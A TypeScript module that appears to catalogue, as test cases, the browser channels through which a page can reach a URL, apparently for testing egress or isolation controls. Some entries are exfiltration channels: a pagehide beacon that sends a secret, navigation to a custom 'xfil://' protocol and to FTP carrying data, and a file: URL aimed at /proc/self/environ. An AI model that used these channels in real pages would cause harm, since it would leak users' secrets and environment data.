/** Ways that elements, styles, workers, forms, frames, windows and links are. */
import { element, navigation, page, type Way } from "./way.ts";

const elements: readonly Way[] = [
  element("img", "img", '<img src="{url}">'),
  element("img-cleartext", "img over http:", '<img src="{url.replace("https", "http")}">'),
  element("img-srcset", "img srcset", '<img srcset="{url} 1x">'),
  element("picture", "picture source", '<picture><source srcset="{url}"><img></picture>'),
  element("input-image", "input type=image", '<input type=image src="{url}">'),
  element("video", "video", '<video src="{url}" preload=auto muted></video>'),
  element("video-poster", "video poster", '<video poster="{url}"></video>'),
  element("audio", "audio", '<audio src="{url}" preload=auto></audio>'),
  element(
    "track",
    "track",
    '<video crossorigin src="data:video/mp4,"><track default kind=captions src="{url}"></video>',
  ),
  element("object", "object", '<object data="{url}" type="text/html"></object>'),
  element("embed", "embed", '<embed src="{url}" type="text/html">'),
  element("iframe", "iframe", '<iframe src="{url}"></iframe>'),
  element("stylesheet", "link rel=stylesheet", '<link rel=stylesheet href="{url}">'),
  element("css-import", "CSS @import", '<style>@import "{url}";</style>'),
  element("css-url", "CSS url()", '<div style="background:url({url})">x</div>'),
  element("css-image-set", "CSS image-set()", `<div style='background:image-set("\${url}" 1x)'>x</div>`),
  element(
    "css-cursor",
    "CSS cursor",
    '<div style="position:fixed;inset:0;cursor:url({url}),auto;pointer-events:none"></div>',
  ),
  element(
    "css-font",
    "CSS @font-face",
    '<style>@font-face{font-family:f;src:url({url})}</style><p style="font-family:f">x',
  ),
  element("svg-image", "SVG image", '<svg><image href="{url}"></image></svg>'),
  element(
    "svg-filter",
    "SVG feImage",
    '<svg><filter id=f><feImage href="{url}"></feImage></filter><rect width=9 height=9 filter="url(#f)"></rect></svg>',
  ),
  page("script", "script", 'const s = document.createElement("script"); s.src = url; document.body.append(s)'),
  page("import", "import()", "import(url)"),
  page("import-map", "import map", "import('mapped/' + hex + '?' + host)"),
  element("modulepreload", "link rel=modulepreload", '<link rel=modulepreload href="{url}">'),
  element("preload", "link rel=preload", '<link rel=preload as=image href="{url}">'),
  element("prefetch", "link rel=prefetch", '<link rel=prefetch href="{url}">'),
  element("favicon", "favicon", '<link rel=icon href="{url}">'),
  element("manifest", "manifest", '<link rel=manifest crossorigin href="{url}">'),
  page(
    "speculation-prefetch",
    "speculation rules: prefetch",
    'speculate({ prefetch: [{ source: "list", urls: [url], referrer_policy: "no-referrer" }] })',
  ),
  page(
    "speculation-prerender",
    "speculation rules: prerender",
    'speculate({ prerender: [{ source: "list", urls: [url] }] })',
  ),
  element("attributionsrc", "attribution reporting", '<img attributionsrc="{url}" src="data:,">'),
  page("worker", "worker", 'new Worker("/worker.js#" + encodeURIComponent(url))'),
  page(
    "shared-worker",
    "shared worker that outlives the page",
    'new SharedWorker("/worker.js#" + encodeURIComponent(url), "s")',
  ),
  page(
    "service-worker",
    "service worker that outlives the page",
    'navigator.serviceWorker.register("/service-worker.js?" + encodeURIComponent(url), { scope: "/sw/" })',
  ),
  page("xslt", "XSLT stylesheet", 'add(`<iframe src="/xslt?{encodeURIComponent(url)}"></iframe>`)'),
  page(
    "payment-manifest",
    "payment method manifest",
    'new PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
  ),
  page(
    "fedcm",
    "federated sign-in (FedCM)",
    "navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: hex }] } })",
  ),
];

const frames: readonly Way[] = [
  page("form-post", "form, POST", 'form("post", url)'),
  page("form-get", "form, GET", 'form("get", url)'),
  page("form-multipart", "form, multipart", 'form("post", url, "multipart/form-data")'),
  page("form-formaction", "form, formaction", 'form("post", "/posted", "", url)'),
  page("form-redirect", "form, POST redirected (307)", 'form("post", "/to/307?" + encodeURIComponent(url))'),
  page(
    "frame-redirect",
    "iframe, redirected (302)",
    'add(`<iframe src="/to/302?{encodeURIComponent(url)}"></iframe>`)',
  ),
  page("frame-refresh", "iframe, meta refresh", 'add(`<iframe src="/refresh?{encodeURIComponent(url)}"></iframe>`)'),
  page(
    "frame-refresh-header",
    "iframe, Refresh header",
    'add(`<iframe src="/refresh-header?{encodeURIComponent(url)}"></iframe>`)',
  ),
  page("frame-srcdoc", "iframe srcdoc", 'add("<iframe></iframe>").srcdoc = `<img src="{url}">`'),
  page(
    "frame-blob",
    "blob: document",
    'add("<iframe></iframe>").src = URL.createObjectURL(new Blob([`<img src="{url}">`], { type: "text/html" }))',
  ),
  page(
    "frame-data",
    "data: document",
    'add("<iframe></iframe>").src = "data:text/html," + encodeURIComponent(`<img src="{url}">`)',
  ),
  page("frame-javascript", "javascript: address", 'add("<iframe></iframe>").src = `javascript:\'<img src="{url}">\'`'),
  page(
    "frame-sandbox",
    "sandboxed iframe",
    "add(`<iframe sandbox=\"allow-scripts\" srcdoc=\"<script>fetch('{url}',{mode:'no-cors'})</script>\"></iframe>`)",
  ),
];

const windows: readonly Way[] = [
  navigation("location", "location", "location = url"),
  navigation("location-cleartext", "location over http:", 'location = url.replace("https", "http")'),
  navigation("meta-refresh", "meta refresh", 'add(`<meta http-equiv=refresh content="0;url={url}">`)'),
  navigation("top-redirect", "redirect of the page (302)", 'location = "/to/302?" + encodeURIComponent(url)'),
  navigation("top-form", "form of the page, POST", 'form("post", url, "", "", "_top")'),
  navigation(
    "top-form-redirect",
    "form of the page, POST redirected (307)",
    'form("post", "/to/307?" + encodeURIComponent(url), "", "", "_top")',
  ),
  navigation(
    "top-form-see-other",
    "form of the page, POST redirected (303)",
    'form("post", "/to/303?" + encodeURIComponent(url), "", "", "_top")',
  ),
  navigation("pop-up", "pop-up", "open(url)"),
  navigation("blank-target", "target=_blank", 'add(`<a target=_blank rel=noopener href="{url}">x</a>`).click()'),
  navigation("written-pop-up", "pop-up that the page writes", 'open("").document.write(`<img src="{url}">`)'),
  navigation("download", "download", 'add(`<a download href="{url}">x</a>`).click()'),
  navigation(
    "unload-beacon",
    "beacon at the end of the page",
    'addEventListener("pagehide", () => navigator.sendBeacon(url, secret)); location = "/blank"',
  ),
  navigation("mailto", "external link: mailto:", 'location = "mailto:" + host + "?body=" + hex'),
  navigation("custom-protocol", "custom protocol", 'location = "xfil://" + host + "/" + hex'),
  navigation("ftp", "ftp:", 'location = "ftp://" + host + "/" + hex'),
  navigation("file", "file:", 'location = "file:///proc/self/environ"'),
  navigation("view-source", "view-source:", 'open("view-source:" + url)'),
];

export const DOCUMENT_WAYS: readonly Way[] = [...elements, ...frames, ...windows];
